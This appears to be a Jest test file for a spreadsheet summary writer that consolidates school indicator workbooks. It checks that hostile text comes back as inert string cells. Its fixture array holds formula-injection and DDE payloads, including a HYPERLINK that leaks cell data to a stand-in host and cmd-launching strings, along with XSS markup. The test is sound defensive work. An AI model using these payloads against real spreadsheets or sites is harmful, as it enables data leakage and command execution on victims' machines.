/**
 * The summary workbook with schools whose every text is hostile — formula injection («=», «+»,
 * «-», «@», DDE), markup, 40 000 characters — in sheet names, indicator names, units, values,
 * file names: the package holds no formula at all, every such text comes back verbatim as a
 * string cell, and the file stays one Excel can open.
 */
import * as XLSX from '@e965/xlsx';
import { Consolidator } from '../../src/core/consolidate/consolidate';
import { Grid } from '../../src/core/grid';
import { writeSummary } from '../../src/workbook/write-summary';
import { xlsxParts } from '../support/zip-craft';

export const HOSTILE = [
  '=HYPERLINK("http://evil.example/?leak="&A1,"Нажмите")',
  "=cmd|' /C calc'!A0",
  "+1+cmd|' /C calc'!A0",
  '-2+3',
  '@SUM(1+1)*cmd|\' /C calc\'!A0',
  '<img src=x onerror="window.__pwned=1">',
  '<script>alert(1)</script>',
  '"><svg onload=alert(1)>',
  '&amp; &lt;b&gt; ]]> <![CDATA[x]]>',
  '_x0041_ _x005F_ \u001b[2J',
];
const LONG = 'х'.repeat(40_000);

function school(file: string, sheet: string, rows: Array<[string, string, unknown, unknown]>): { path: string; sheets: Grid[] } {
  const grid = new Grid(sheet);
  ['Наименование показателя', 'Единицы измерения', '2023 план', '2023 факт'].forEach((h, c) => grid.set(0, c, { value: h }));
  rows.forEach((row, i) =>
    row.forEach((v, c) => {
      if (v !== null && v !== undefined) grid.set(1 + i, c, { value: v as string | number });
    }),
  );
  return { path: file, sheets: [grid] };
}

function summary(): Uint8Array {
  const c = new Consolidator({ language: 'ru' });
  c.addSchool(school('school-1.xlsx', 'Показатели', [['Количество обучающихся', 'человек', 10, 12], ...HOSTILE.map((h, i): [string, string, unknown, unknown] => [h, 'человек', i, h])]));
  HOSTILE.forEach((h, i) => c.addSchool(school(`${h}-${i}.xlsx`, h.replace(/[:\\/?*[\]]/g, '').slice(0, 31) || 'x', [['Количество обучающихся', h, h, LONG]])));
  return writeSummary(c.result());
}

describe('the summary workbook', () => {
  const bytes = summary();

  test('holds no formula anywhere: every sheet part is free of <f>', () => {
    const sheets = xlsxParts(bytes).filter((p) => /^xl\/worksheets\/.*\.xml$/.test(p.name));
    expect(sheets).toHaveLength(3);
    for (const part of sheets) expect(Buffer.from(part.data).toString('utf8')).not.toMatch(/<f[ >]/);
    // Markup is escaped in the XML, never raw.
    const all = xlsxParts(bytes).map((p) => Buffer.from(p.data).toString('utf8')).join('\n');
    expect(all).not.toContain('<img');
    expect(all).not.toContain('<script');
  });

  test('gives every hostile text back verbatim, as a string cell', () => {
    const book = XLSX.read(bytes, { type: 'array', cellFormula: true });
    const strings = new Map<string, XLSX.CellObject[]>();
    for (const name of book.SheetNames) {
      for (const [address, cell] of Object.entries(book.Sheets[name])) {
        if (address.startsWith('!')) continue;
        const c = cell as XLSX.CellObject;
        expect(c.f).toBeUndefined();
        if (typeof c.v === 'string') strings.set(c.v, [...(strings.get(c.v) ?? []), c]);
      }
    }
    expect(HOSTILE.filter((h) => !strings.has(h))).toEqual([]);
    for (const h of HOSTILE) for (const cell of strings.get(h)!) expect(cell.t).toBe('s');
  });

  test('clips a text longer than Excel takes to 32 767 characters instead of failing', () => {
    const book = XLSX.read(bytes, { type: 'array' });
    const longest = Math.max(
      ...book.SheetNames.flatMap((n) => Object.values(book.Sheets[n]).map((c) => (typeof (c as XLSX.CellObject).v === 'string' ? ((c as XLSX.CellObject).v as string).length : 0))),
    );
    expect(longest).toBe(32_767);
  });
});
